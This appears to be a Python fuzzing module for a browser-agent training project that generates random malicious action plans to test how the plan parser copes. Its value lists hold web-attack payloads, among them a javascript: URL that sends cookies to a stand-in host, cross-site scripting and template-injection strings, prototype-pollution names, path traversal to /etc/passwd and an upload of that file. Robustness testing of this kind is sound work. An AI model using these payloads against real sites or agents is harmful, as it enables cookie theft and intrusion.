# ruff: noqa: E501
"""Plans that mean harm, from a seed: schemes, encodings, huge values, control characters, names of prototypes."""

from __future__ import annotations

import random

from dllm_rl.records.plan import PRESSABLE_KEYS, VERBS, quote
from dllm_rl.records.tasks import Observation

TARGET = "evil.example"
VALUES = (
    *(f"{scheme}//{TARGET}/x" for scheme in ("http:", "https:", "ws:", "wss:", "ftp:", "view-source:http:", "", "file:")),
    *(f"http://{host}/" for host in ("203.0.113.7", "[2001:db8::7]", "0xCB007107", "3405803783", "127.0.0.1@evil.example")),
    "javascript:fetch('https://evil.example/'+document.cookie)",
    "data:text/html,<script>location='https://evil.example'</script>",
    "file:///etc/passwd",
    "chrome://settings",
    "blob:null",
    f"<script src=//{TARGET}></script>",
    f'"><img src="http://{TARGET}/x" onerror="fetch(`//{TARGET}`)">',
    f"</textarea></form><form action=http://{TARGET}><button>",
    f"<link rel=preload href=//{TARGET}><base href=//{TARGET}>",
    "${fetch('//evil.example')}",
    "{{constructor.constructor('fetch(`//evil.example`)')()}}",
    "'); fetch('//evil.example'); ('",
    '\\"}); window.open("//evil.example"); ({\\"',
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "then", "length", "__dllm",
    "\x00", "\x1b[2J", "\x7f", "\r\n\r\nGET //evil.example", "\u2028\u2029", "\u202eevil", "\ufeff", "\ufffe", "\ud800",
    "\U0001f4a9" * 50, "a\u0300" * 200, "%00", "%2e%2e%2f", "..\\..\\", "../../../../etc/passwd", "&#x6a;avascript:", "\t",
    "0" * 400, "9" * 400, "1e999", "NaN", "-0", "0000-00-00", "+275761-01-01", "A" * 7000, "\\" * 300, '"' * 300,
)  # fmt: skip
SYNTAX = (
    "goto p1.e1", f"goto http://{TARGET}", "eval p1.e1 \"fetch('//evil.example')\"", 'fill __proto__ "x"', "click window.open",
    'upload p1.e1 "/etc/passwd"', 'press p1.e1 "Control+T"', 'press p1.e1 "F12"', 'fill p1.e1 "', "click p1.e1; click p1.e2",
    "click p999.e9999", "click p0.e0", "click p1.e-1", "\x00", "{}", "[]", "null", "submit\tp1.e1", "click  p1.e1",
)  # fmt: skip


def hostile_plan(page: Observation, rng: random.Random) -> str:
    """One plan of 1 to 12 lines, most of which act on controls that exist."""
    refs = [control.ref for control in page.controls]
    return "\n".join(_line(refs, rng) for _ in range(rng.choice((1, 2, 4, 8, 12))))


def _line(refs: list[str], rng: random.Random) -> str:
    kind = rng.random()
    if kind < 0.15:
        return rng.choice(SYNTAX)
    if kind < 0.2:
        return "".join(chr(rng.randrange(1, 0x3000)) for _ in range(rng.randrange(1, 80)))
    verb, ref = rng.choice(VERBS), rng.choice(refs)
    if verb == "press":
        return f"press {ref} {quote(rng.choice(PRESSABLE_KEYS))}"
    if verb in ("fill", "select", "upload") or kind > 0.8:
        return f"{rng.choice(('fill', verb))} {ref} {quote(_value(rng))}"
    return f"{verb} {ref}"


def _value(rng: random.Random) -> str:
    value = rng.choice(VALUES)
    return value if rng.random() < 0.7 else value + rng.choice(VALUES)[:200]
